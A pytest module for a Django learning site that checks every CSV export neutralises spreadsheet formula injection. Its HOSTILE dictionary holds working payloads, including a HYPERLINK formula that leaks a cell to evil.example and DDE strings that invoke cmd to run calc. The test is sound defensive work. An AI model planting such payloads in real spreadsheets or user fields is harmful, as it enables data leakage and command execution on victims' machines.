"""Every CSV the site exports is inert in a spreadsheet, whatever people typed.

Learners, cohorts, assignments and questions are named with each start a spreadsheet reads as a
formula (=, +, -, @, |, %, tab, carriage return). Then every export is downloaded: the cohort
gradebooks, and each analytics page's tables found from the download links the page itself
offers, with a check that every CSV URL pattern of the site was reached, so a new export is
covered without being listed. No text cell may start a formula; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import get_resolver, resolve, reverse

from edu.access import walk_patterns
from edu.spreadsheets import FORMULA_STARTS
from tests.analytics.conftest import cohorts, pocket, program, quiz_a  # noqa: F401 - fixtures
from tests.cases.conftest import content_dir  # noqa: F401 - fixture
from tests.factories import EnrolmentFactory, InstructorFactory, LearnerFactory, open_assignment

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "|": "|calc",
    "%": "%0A=1+1",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture
def hostile_world(program, quiz_a):  # noqa: F811
    """The analytics program with hostile names everywhere a person can type one."""
    alpha, beta = program["alpha"], program["beta"]
    alpha.name, beta.name = HOSTILE["="], HOSTILE["+"]
    alpha.save(update_fields=["name"])
    beta.save(update_fields=["name"])
    starts = list(HOSTILE.values())
    members = [*program["learners"][:3], *quiz_a["learners"]]  # Alpha's, in the gradebook
    for index, learner in enumerate(members):
        learner.first_name, learner.last_name = starts[index % len(starts)], ""
        learner.save(update_fields=["first_name", "last_name"])
    for question in quiz_a["questions"]:
        question.stem = HOSTILE["@"]
        question.save(update_fields=["stem"])
        question.options.filter(position=1).update(text=HOSTILE["-"])
    instructor = InstructorFactory()
    alpha.instructors.add(instructor)
    open_assignment(alpha, kind="case", target=program["case"])
    type(program["case"]).objects.filter(pk=program["case"].pk).update(title=HOSTILE["%"])
    EnrolmentFactory(cohort=alpha, learner=LearnerFactory(first_name=HOSTILE["|"]))
    return {"instructor": instructor, "cohort": alpha, "quiz": quiz_a, "program": program}


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell) is not None


def formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not is_number(cell)
    ]


def csv_pattern_names() -> set[str]:
    names = set()
    for route, namespaces, pattern in walk_patterns(get_resolver()):
        if pattern.name and ("csv" in route or pattern.name.startswith("export-")):
            name = ":".join((*namespaces, pattern.name))
            if name != "analytics:xapi":  # JSON lines, not a spreadsheet
                names.add(name)
    return names


def analytics_pages(world) -> list[str]:
    quiz = world["quiz"]
    return [
        reverse("analytics:index"),
        reverse("analytics:cases"),
        reverse("analytics:case", args=[world["program"]["case"].slug]),
        reverse("analytics:quizzes"),
        reverse("analytics:quiz", args=[quiz["quiz"].slug]),
        reverse("analytics:question", args=[quiz["quiz"].slug, quiz["questions"][0].pk]),
        reverse("analytics:levels"),
    ]


def test_every_export_keeps_hostile_text_as_text(admin_client_role, hostile_world):
    downloads = {}
    for page in analytics_pages(hostile_world):
        html = admin_client_role.get(page).content.decode()
        for href in set(re.findall(r'href="([^"]*/csv/[^"]*)"', html)):
            downloads[href.replace("&amp;", "&")] = admin_client_role
    client = Client()
    client.force_login(hostile_world["instructor"])
    cohort = hostile_world["cohort"].pk
    for name in ("cohorts:export-gradebook", "cohorts:export-attempts"):
        downloads[reverse(name, args=[cohort])] = client

    reached = {resolve(url.split("?")[0]).view_name for url in downloads}
    assert reached == csv_pattern_names(), "an export no page links to, or one left untested"

    cells: set[str] = set()
    for url, who in sorted(downloads.items()):
        response = who.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv"), url
        text = b"".join(response.streaming_content if response.streaming else [response.content])
        text = text.decode()
        assert formula_cells(text) == [], url
        cells.update(cell for row in csv.reader(io.StringIO(text)) for cell in row)
    # The hostile names did reach the exports (defused), so the check above saw them.
    # (a name's leading tab or CR may be trimmed on the way: then the = behind it is defused)
    for start, text in HOSTILE.items():
        assert any(c.startswith("'") and text.strip() in c for c in cells), repr(start)
